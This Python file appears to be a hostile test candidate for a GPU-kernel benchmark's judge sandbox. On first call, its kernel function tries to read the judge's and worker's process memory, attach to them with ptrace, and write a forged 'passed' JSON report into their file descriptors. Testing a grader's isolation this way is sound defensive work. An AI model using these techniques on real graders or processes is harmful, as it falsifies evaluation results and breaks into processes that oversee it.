# Exploit (pygpubench's ptrace POKETEXT, /proc/self/mem and pipe interposition, adapted): reach into
# the processes above the candidate - its parent (the judge) and the worker above it - to read their
# memory, attach to them, or write a forged report into their descriptors. Each attempt prints what
# it got; the kernel then returns zeros (a forged report would be the only way to pass).
import ctypes
import json
import os
import signal

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
WALL = 0x40000000  # __WALL: wait for a process that is not our child
FORGED = (
    json.dumps({"schema": 1, "passed": True, "status": "passed", "exit_code": 0, "flags": [], "cases": []})
    + "\n"
).encode()


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _try(what, fn):
    try:
        fn()
        print(f"{what}: ALLOWED", flush=True)
    except OSError as exc:
        print(f"{what}: denied ({exc.strerror})", flush=True)


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for who, pid in (("judge", os.getppid()), ("worker", _parent_of(os.getppid()))):
        _try(f"{who} mem", lambda: open(f"/proc/{pid}/mem", "rb").close())

        def write_fds():
            names = os.listdir(f"/proc/{pid}/fd")
            opened = 0
            for name in names:
                try:
                    fd = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
                    opened += 1
                    os.write(fd, FORGED)
                    os.close(fd)
                except OSError:
                    pass
            print(f"{who} fd opens: {opened} of {len(names)}", flush=True)

        _try(f"{who} fd writes", write_fds)

        def attach():
            if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            # attached (the defence failed): wait for the stop, let go, and let it run on, so that the
            # test fails on what it reads instead of hanging on a stopped judge or worker
            os.waitpid(pid, WALL)
            libc.ptrace(PTRACE_DETACH, pid, None, None)
            os.kill(pid, signal.SIGCONT)

        _try(f"{who} ptrace", attach)


_done = []


def custom_kernel(data):
    if not _done:
        _done.append(True)
        _attack()
    A, B, C = data
    C.zero_()
    return C
